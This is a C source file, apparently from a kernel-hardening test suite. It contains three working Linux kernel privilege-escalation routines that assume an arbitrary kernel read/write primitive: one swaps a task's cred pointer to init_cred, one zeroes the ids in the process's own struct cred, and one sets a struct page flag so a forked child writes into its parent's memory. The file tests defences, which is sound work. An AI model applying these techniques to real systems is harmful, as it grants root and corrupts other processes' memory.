// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks that leave page tables alone. They land whether tables are
 * protected or not, and stay here to say so.
 */
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"

#define CRED_IDS	8	/* uid, gid, suid, sgid, euid, egid, fsuid, fsgid */

enum outcome task_cred_pointer(void)
{
	uint64_t init_cred = ksymbol("init_cred");
	int uid = getuid(), now, err;
	struct task task;

	if (ktask(0, &task) || !init_cred)
		return broken("init_cred not found");
	err = kwrite64(task.cred_slot, init_cred);
	err = err ?: kwrite64(task.real_cred_slot, init_cred);
	now = getuid();
	/* exit() would drop references that were never taken. */
	kwrite64(task.real_cred_slot, task.cred);
	kwrite64(task.cred_slot, task.cred);
	if (err || now)
		return lost("store gave %d, uid=%d", err, now);
	return won("task->cred set to init_cred: uid=%d became uid=%d", uid, now);
}

/* Where the first id is, by its value: no offset to be known. */
static uint64_t find_ids(uint64_t cred)
{
	unsigned int ids[64];
	size_t i, n;

	kread(cred, ids, sizeof(ids));
	for (i = 0; i + CRED_IDS <= sizeof(ids) / sizeof(ids[0]); i++) {
		for (n = 0; n < CRED_IDS && ids[i + n] == ATTACKER_UID; n++)
			;
		if (n == CRED_IDS)
			return cred + i * sizeof(ids[0]);
	}
	return 0;
}

enum outcome live_cred(void)
{
	static const unsigned int zeros[CRED_IDS];
	int uid = getuid(), err;
	struct task task;
	uint64_t ids;

	if (ktask(0, &task))
		return broken("no cred found");
	ids = find_ids(task.cred);
	if (!ids)
		return broken("no ids found in struct cred");
	err = kwrite(ids, zeros, sizeof(zeros));
	if (err || getuid())
		return lost("store gave %d, uid=%d", err, getuid());
	return won("own struct cred overwritten: uid=%d became uid=%d euid=%d", uid,
		   getuid(), geteuid());
}

/*
 * After fork() a page is shared until somebody writes. The flag "belongs to
 * one process only" in struct page makes the kernel skip the copy: the child
 * writes into its parent's memory.
 */
static void write_shared_page(volatile char *page, uint64_t flag)
{
	struct slot slot;
	uint64_t flags;

	if (kwalk((uint64_t)page, LEAF, 0, &slot))
		_exit(1);
	flags = kread64(slot.page);
	kwrite64(slot.page, flags | flag);
	strcpy((char *)page, "child's");
	_exit(0);
}

/* The flag that fork() takes away. */
static uint64_t exclusive_flag(uint64_t before, uint64_t after)
{
	uint64_t lost_flags = before & ~after;

	return lost_flags & (lost_flags - 1) ? 0 : lost_flags;
}

enum outcome page_struct(void)
{
	volatile char *page;
	struct slot slot;
	uint64_t before;
	int start[2];
	pid_t pid;
	char go;

	user_page((void **)&page);
	strcpy((char *)page, "parent's");
	if (pipe(start) || kwalk((uint64_t)page, LEAF, 0, &slot))
		return broken("no page");
	before = kread64(slot.page);
	pid = fork();
	if (!pid) {
		uint64_t flag = exclusive_flag(before, kread64(slot.page));

		if (read(start[0], &go, 1) == 1 && flag)
			write_shared_page(page, flag);
		_exit(1);
	}
	if (write(start[1], "g", 1) != 1)
		return broken("child died");
	waitpid(pid, NULL, 0);
	if (strcmp((char *)page, "child's"))
		return lost("the parent's page still says %s", (char *)page);
	return won("after one flag in struct page, a child's write changed its parent's private memory to \"%s\"",
		   (char *)page);
}
